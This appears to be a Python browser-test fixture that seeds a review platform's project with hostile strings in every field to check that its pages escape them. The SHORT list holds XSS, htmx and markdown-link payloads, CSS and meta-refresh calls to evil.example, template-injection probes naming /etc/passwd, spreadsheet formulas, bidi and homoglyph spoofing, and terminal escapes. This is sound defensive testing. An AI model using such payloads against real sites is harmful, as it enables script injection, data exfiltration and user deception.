"""What upstream or a colleague may write to harm a reader, and a project that has it in every field they can fill."""

import json
from datetime import timedelta
from typing import Any
from urllib.parse import quote
from uuid import UUID

import httpx
import msgspec

from review.bulk.schemas import Asked, Kind
from review.datasets.snapshots import running as snapshots
from review.decisions.rules import Verdict
from review.delivery.webhooks import service as webhooks
from review.identity.rules import Role
from review.insight import learning
from review.kernel.db import get_now
from review.kernel.ids import new_id
from review.registry import queries as registry
from review.registry.rules import Called
from review.rehearsal import running
from review.rehearsal import service as rehearsal
from review.rehearsal.schemas import Assumed
from review.rehearsal.service import Wanted
from tests import kinds
from tests.browser.conftest import Site
from tests.browser.moving_in import move_in
from tests.bulk import acts
from tests.make import World

RUN = "window.ran=(window.ran||0)+1"
EVIL = "https://evil.example"

# Short enough for every field; each is tried whole.
SHORT = [
    f"<script>{RUN}</script>",
    f'<script src="{EVIL}/x.js"></script>',
    f"<img src=x onerror={RUN}>",
    f'"><img src={EVIL}/p onload="{RUN}">',
    f"'><svg/onload={RUN}><image href={EVIL}/x>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f'<math><mtext><mglyph><style><img src=x onerror="{RUN}">',
    f'<math href="javascript:{RUN}">x</math>',
    f"<details open ontoggle={RUN}>x",
    f"<input autofocus onfocus={RUN}>",
    f"<a href='javascript:{RUN}'>x</a> <a href=' data:text/html,x'>y</a> <a href=vbscript:x>z</a>",
    f'<div hx-get="/sign-out" hx-trigger="load">x</div><div data-hx-post="{EVIL}" data-hx-trigger="load">y</div>',
    f"<b hx-on:load='{RUN}' hx-on--load='{RUN}' data-hx-on:htmx:after:init='{RUN}' hx-vals='js:{{x:{RUN}}}'>",
    "<hx-partial hx-target='body'>x</hx-partial><template hx type='partial'>x</template><i hx-swap-oob=true id=desk>",
    '<form action="/sign-out" method="post" id="judge"><button formaction="//evil.example" autofocus>x</button></form>',
    f"<base href={EVIL}><meta http-equiv=refresh content='0;url={EVIL}'><link rel=stylesheet href={EVIL}/x.css>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe><object data={EVIL}></object><embed src={EVIL}>",
    f"<style>@import '{EVIL}/x.css'; input[value^=a]{{background:url({EVIL}/a)}} *{{display:none}}</style>",
    f'<p style="position:fixed;inset:0;background:url({EVIL}/x);z-index:99">x</p>',
    f"[x](javascript:{RUN}) [y](data:text/html,x) [z](vbscript:x) ![p]({EVIL}/p.png) ![s](data:image/svg+xml,x)",
    f"[a]: javascript:{RUN}\n\n[a] [b][c]\n\n[c]: {EVIL} '\"onmouseover={RUN}'\n\n<{EVIL}/>",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {% include '/etc/passwd' %} {{ self.__init__ }} [[${7*7}]]",
    "</textarea></title></option></pre></template></style></code></div></main></body>-->]]>",
    "\u202egnp.exe\u202c \u2066\u2067\u2068 x \u2069 \u200f\u200e \u061c שלום",
    "zero\u200bwidth\u2060and\ufeffmore \u00adsoft \u3164 \u2800 \u115f x\u200dy \ufe01",
    "tags\U000e0069\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065 \U000e0100",
    "z" + "\u0335\u0321\u0348\u033f\u0304\u0357" * 12 + "algo",
    "pаypаl.com аdmin",  # noqa: RUF001  the Cyrillic letters are the point
    "\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x07x\x1b]8;;\x07 \x07\x08\x7f\x85\x9b2J",
    '=HYPERLINK("https://evil.example") +1 -1 @x \t\r x.pdf\u202e.exe ../../etc/passwd',
    "W" * 180,
    "مرحبا بالعالم 123 <b>",
]
LONG = "\n".join(SHORT)
DATA_URIS = [
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>",
    f"data:text/html,<script>{RUN}</script>",
    "data:image/png;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"{EVIL}/pixel.png",
    f'x" onerror="{RUN}',
]
# What an output marks on its input, and what else has a view of its own.
MARKED = {
    "input.photo": "image",
    "input.where": "evidence",
    "input.tools": "chat",
    "input.script": "code:html",
    "input.answers": "pair",
    "input.edit": "diff",
    "input.film": "video",
    "input.call": "audio",
    "input.paper": "pdf",
    "output.spans": "spans",
    "output.boxes": "boxes",
    "output.fields": "extraction",
}
RULE_TEXT = SHORT[0].replace('"', "'")


def deep(levels: int) -> Any:
    """Nest one value so often."""
    value: Any = SHORT[0]
    for _ in range(levels):
        value = {SHORT[1][:20]: [value]}
    return value


def configuration() -> str:
    """Write a project whose texts are hostile, as far as names allow it."""
    schema = {
        "type": "object",
        "title": SHORT[2],
        "properties": {
            "label": {"enum": SHORT, "title": SHORT[3], "description": LONG},
            "many": {"type": "array", "items": {"enum": SHORT}, "uniqueItems": True, "title": SHORT[23]},
            "few": {"enum": [SHORT[0], SHORT[23], SHORT[24]]},
            SHORT[4]: {"type": "string", "title": SHORT[5], "description": SHORT[6]},
            "text": {"type": "string"},
            "spans": {"type": "array", "items": {"type": "object", "properties": {"label": {"enum": SHORT}}}},
            "boxes": True,
            "fields": True,
            "rows": {"type": "array", "items": {"type": "object", "properties": {SHORT[7]: {"type": "string"}}}},
        },
    }
    plain = ("text", "markdown", "code", "json", "image", "table", "chat", "choice")
    document = {
        "project": "hostile",
        "title": SHORT[23],
        "item_types": {
            "everything": {
                "title": f"{SHORT[0]} {SHORT[23]}",
                "input_schema": True,
                "output_schema": schema,
                "reasons": [each for each in SHORT if len(each) <= 190],
                "guidelines": LONG,
                "view": {f"input.{kind}": kind for kind in plain} | {"output.label": "choice"} | MARKED,
            }
        },
        "pools": {"desk": {"title": f"{SHORT[2]} {SHORT[23]}", "lease": "10m", "members": ["ana@example.com"]}},
        "sla_policies": {"standard": {"decide": "4h"}},
        "rules": [
            {
                "name": "odd",
                "when": f'item.confidence < 0.9 && "{RULE_TEXT}" != "{SHORT[23]}"',
                "then": {"review": "desk", "sla": "standard"},
            },
            {"name": "broken", "when": f'item.input.nowhere == "{RULE_TEXT}"', "then": {"review": "desk"}},
            {"name": "rest", "when": "true", "then": {"approve": True}},
        ],
        "webhooks": [{"name": "crm", "url": "https://crm.example/<script>?a=%22&b='", "events": ["item.decided"]}],
        "channels": {"room": {"url": "json://secret.example/token"}},
    }
    return json.dumps(document)


def marked(at: int) -> dict[str, Any]:
    """Give the parts of an input that marks are drawn on, and those that have a view of their own."""
    short = SHORT[at % len(SHORT)]
    return {
        "photo": kinds.uri(kinds.png(8, 8), "image/png"),
        "where": {each: {"x": 0.1, "y": 0.1, "width": 0.2, "height": 0.2} for each in SHORT},
        "tools": [
            {
                "role": "assistant",
                "name": short,
                "timestamp": short,
                "tool_calls": [{"name": short, "input": LONG}],
            },
            {"role": "tool", "name": short, "content": LONG},
            {"role": "system", "content": LONG},
        ],
        "script": LONG,
        "answers": [LONG, f"{LONG} {short}"],
        "edit": {"before": LONG, "after": short},
        **dict.fromkeys(("film", "call", "paper"), DATA_URIS[at % len(DATA_URIS)]),
    }


def submission(at: int, **more: Any) -> dict[str, Any]:
    """Give an item that is hostile in every field, with the payload of that number in the short ones."""
    short = SHORT[at % len(SHORT)]
    rows = [{each: each} for each in SHORT]
    return {
        "type": "everything",
        "input": {
            **dict.fromkeys(("text", "markdown", "code", "choice", "more"), LONG),
            "json": {short: [LONG, {short: short}]},
            "deep": deep(40),
            "image": DATA_URIS[at % len(DATA_URIS)],
            "images": DATA_URIS,
            "table": rows,
            "chat": [{"role": each, "content": each} for each in SHORT],
            **marked(at),
            "file": {"name": short, "mime": f"text/html;{short}", "size": "1"},
            short: short,
        },
        "output": {
            "label": short,
            "many": SHORT[:3],
            "few": SHORT[23],
            SHORT[4]: short,
            "text": LONG,
            "rows": [{SHORT[7]: short}],
            "spans": [{"start": place, "end": place + 1, "label": each} for place, each in enumerate(SHORT)],
            "boxes": [{"x": 0.1, "y": 0.1, "width": 0.2, "height": 0.2, "label": each} for each in SHORT],
            "fields": dict(rows[at % len(rows)]) | {"nested": {short: LONG}},
            short: short,
        },
        "external_id": f"{at} {short}"[:200],
        "model": {"name": short[:200], "version": short[:200], "prompt_version": short[:200]},
        "confidence": 0.5,
        "impact": short[:40],
        "alternatives": [{"output": {"label": each, "text": LONG}, "confidence": 0.1} for each in SHORT[:20]],
        "explanation": LONG[:20_000],
        "signals": {short: short, "n": {short: LONG}},
        "cost": {"amount": "0.1", "currency": "USD"},
        "trace_id": short[:200],
        "subject": short[:200],
        "tags": [each[:200] for each in SHORT],
        "metadata": {short: short, "deep": {short: [LONG]}},
    } | more


class Spread:
    """A project full of it, and where on its pages it stands."""

    def __init__(self, site: Site, world: World) -> None:
        self.site = site
        self.world = world
        self.items: list[str] = []
        self.held = ""
        self.delivery = ""
        self.act = self.backtest = self.rollout = ""
        self.models: list[UUID] = []

    async def fill(self) -> None:
        """Submit, and act on it by every hand, with hostile words each time."""
        async with httpx.AsyncClient(base_url=f"{self.site.url}/api/v1", timeout=60) as api:
            for at in range(len(SHORT)):
                answer = await self._call(
                    api, "/items", submission(at, confidence=0.5 if at else 0.95), key=self.world.service_key
                )
                self.items.append(answer["id"])
            await self._act(api)
        await learning.follow(self.world.db)
        now = await get_now(self.world.db.hot)
        for called in (Called(*SHORT[1:4]), Called(SHORT[23], SHORT[2], SHORT[5])):
            cut = Called(*(each[:200] for each in called))
            added = await registry.add(self.world.db.hot, self.world.service.project_id, cut, 1, (now, now), "waiting")
            self.models.append(added)
        await self._owe()
        execute = self.world.db.hot.execute
        await execute("UPDATE users SET name = $1 WHERE email <> ''", f"{SHORT[2]} {SHORT[23]}")
        await execute("UPDATE api_keys SET name = $1, last_used_from = $2", f"{SHORT[5]} {SHORT[23]}"[:200], SHORT[2])
        await execute("UPDATE sessions SET user_agent = $1, origin = $2", LONG.replace("\0", "")[:200], SHORT[2])

    async def _act(self, api: httpx.AsyncClient) -> None:
        claimed = (await self._call(api, "/pools/desk/claims", {"limit": 8}, name="ana"))["data"]
        for at, seat in enumerate(claimed):
            here, told = f"/assignments/{seat['id']}", {"fence": seat["fence"]}
            if at == 0:
                await self._call(api, f"{here}/skip", told | {"reason": SHORT[1]}, name="ana")
            elif at == 1:
                await self._call(api, f"{here}/escalate", told | {"reason": LONG[:1_900]}, name="ana")
            elif at == 2:
                judged = {"verdict": "correct", "output": {"label": SHORT[5], "text": LONG}, "comment": LONG[:9_000]}
                await self._call(api, f"{here}/review", told | judged | {"reasons": [SHORT[0]]}, name="ana")
            elif at == 3:
                judged = {"verdict": "reject", "reasons": [SHORT[23]], "comment": SHORT[23]}
                await self._call(api, f"{here}/review", told | judged, name="ana")
            elif at in {4, 5}:
                await self._ask(api, seat, is_answered=at == 4)
        item = f"/items/{self.items[-1]}"
        await self._call(api, f"{item}/override", {"verdict": "reject", "reason": LONG[:1_900]}, name="lea")
        for at in (-2, -3):
            await self._call(api, f"/items/{self.items[at]}/pause", {"reason": LONG[:1_900]}, name="lea")
        await self._call(api, f"/items/{self.items[-3]}/resume", {}, name="lea")
        for reason in (SHORT[2], LONG[:1_900]):
            await self._call(api, "/item-types/everything/stop", {"reason": reason}, name="lea")
            await self._call(api, "/item-types/everything/resume", {"reason": reason}, name="lea")
        await self._call(api, "/item-types/everything/stop", {"reason": LONG[:1_900]}, name="lea")
        (seat,) = (await self._call(api, "/pools/desk/claims", {"limit": 1}, name="nora"))["data"]
        self.held = seat["id"]
        await self._comment(api, seat["item"]["id"], *self.items[:3])
        reason = f"{SHORT[2]} {SHORT[23]}"
        asked = Asked(act=Kind.DECIDE, verdict=Verdict.REJECT, reasons=(SHORT[0],), reason=reason)
        self.act = str((await acts.ask(self.world, "nora", asked, [UUID(each) for each in self.items[-9:]])).id)
        await acts.work(self.world)
        async with self.world.db.transaction() as tx:
            wanted = Wanted(from_version=1, to_version=1, assumed=Assumed(minutes=2, cost_per_hour=30))
            self.backtest = str(
                (
                    await rehearsal.begin(
                        tx, project_id=self.world.service.project_id, actor=self.world.service.actor, wanted=wanted
                    )
                ).id
            )
        await running.advance(self.world.db, self.world.configs, timedelta(0))
        await self._collect(api)
        await self._roll_out()

    async def _collect(self, api: httpx.AsyncClient) -> None:
        """Make two snapshots of a dataset of it, and one that takes nothing."""
        hostile = {"criteria": {"tags": [SHORT[2]], "rules": [SHORT[23]]}, "sampling": {"label_at": SHORT[2]}}
        for name, definition in (("all", {}), ("none", hostile)):
            body = {"name": name, "description": LONG.replace("\0", "")[:1_900], "definition": definition}
            await self._call(api, "/datasets", body, name="lea")
        for name in ("all", "all", "none"):
            await self._call(api, f"/datasets/{name}/snapshots", {}, name="lea")
        await snapshots.advance(self.world.db, self.world.settings)
        await move_in(self.world, api, SHORT)

    async def _roll_out(self) -> None:
        """Have a version tried in the shadow for a hostile reason, and an item that differs for hostile parts."""
        self.rollout, project_id = str(new_id()), self.world.service.project_id
        execute = self.world.db.hot.execute
        await execute(
            "INSERT INTO rollouts (project_id, id, version, from_version, state, reason, tag, started_by, position,"
            " flows) VALUES ($1, $2, 1, 1, 'shadow', $3, $3, $4, 0, $5)",
            *(project_id, UUID(self.rollout), SHORT[23], SHORT[2], json.dumps({f"review:{SHORT[5]} > approve": 1})),
        )
        await execute(
            "INSERT INTO rollout_items (project_id, rollout_id, item_id, is_taken, old, new, old_rule, new_rule, parts)"
            " VALUES ($1, $2, $3, false, $4, 'approve', $5, $5, $6)",
            *(project_id, UUID(self.rollout), UUID(self.items[0]), f"review:{SHORT[5]}", SHORT[2]),
            json.dumps([{"name": SHORT[23], "value": SHORT[2]}]),
        )

    async def _ask(self, api: httpx.AsyncClient, seat: dict[str, Any], *, is_answered: bool) -> None:
        given = {"fence": seat["fence"], "text": LONG[:1_900]}
        asked = await self._call(api, f"/assignments/{seat['id']}/ask", given, name="ana")
        if is_answered:
            path = f"/items/{asked['item_id']}/questions/{asked['question_id']}/answer"
            await self._call(api, path, {"answer": LONG[:3_900]}, key=self.world.service_key)

    async def _comment(self, api: httpx.AsyncClient, *items: str) -> None:
        for item in items:
            for words in (LONG[:3_900], SHORT[23], f"@{SHORT[0]}"):
                await self._call(api, f"/items/{item}/comments", {"text": words}, name="lea")

    async def _call(
        self, api: httpx.AsyncClient, path: str, body: object, *, key: str = "", name: str = ""
    ) -> dict[str, Any]:
        headers = {"Authorization": f"Bearer {key or self.world.tokens[name]}"}
        answer = await api.post(path, json=body, headers=headers)
        assert answer.is_success, f"{path}: {answer.text[:2_000]}"
        found: dict[str, Any] = answer.json()
        return found

    async def _owe(self) -> None:
        """Leave what a receiver and a channel answer with."""
        project_id, run = self.world.service.project_id, self.world.db.hot.execute
        async with self.world.db.transaction() as tx:
            await webhooks.sync(tx, project_id, self.world.config)
        endpoint_id = await self.world.db.hot.fetchval("SELECT id FROM webhook_endpoints")
        event_id, delivery_id = new_id(), new_id()
        self.delivery = str(delivery_id)
        words = LONG.replace("\0", "")
        await run(
            "INSERT INTO events (project_id, id, kind, payload, body) VALUES ($1, $2, 'item.decided', '{}', $3)",
            *(project_id, event_id, json.dumps({"type": LONG})),
        )
        await run(
            "INSERT INTO deliveries (project_id, id, endpoint_id, event_id, state, attempts, reason)"
            " VALUES ($1, $2, $3, $4, 'dead', 1, $5)",
            *(project_id, delivery_id, endpoint_id, event_id, words),
        )
        headers = msgspec.json.encode({each: each for each in SHORT}).decode()
        await run(
            "INSERT INTO delivery_attempts (project_id, delivery_id, number, started_at, seconds, status, error,"
            " request_headers, response_headers, response_body) VALUES ($1, $2, 1, now(), 0.8, 500, $4, $3, $3, $4)",
            *(project_id, delivery_id, headers, words),
        )
        await run(
            "UPDATE webhook_endpoints SET failures = 3, resting_because = $1, reason = $1, resting_until = now()"
            " + interval '1 hour'",
            words,
        )
        await run(
            "INSERT INTO channel_states (project_id, name, url_sha256, failures, disabled_at, reason)"
            " VALUES ($1, 'room', '', 3, now(), $2)",
            *(project_id, words),
        )


async def spread(site: Site) -> Spread:
    """Build it, with Nora as an admin who works there too."""
    world = await World.build(site.world.db, site.world.settings, project="hostile", source=configuration())
    await world.add_person("nora", Role.ADMIN)
    await world.db.hot.execute(
        "INSERT INTO pool_members VALUES ($1, 'desk', 'nora@example.com', 'direct')", world.service.project_id
    )
    made = Spread(site, world)
    await made.fill()
    await world.db.hot.executemany(
        "INSERT INTO queue_views (project_id, id, owner_id, name, pool, query, is_shared)"
        " VALUES ($1, uuidv7(), $2, $3, 'desk', 'text=' || $4, true)",
        [(world.service.project_id, world.people["nora"].id, each[:60], quote(each)) for each in SHORT[:3]],
    )
    return made
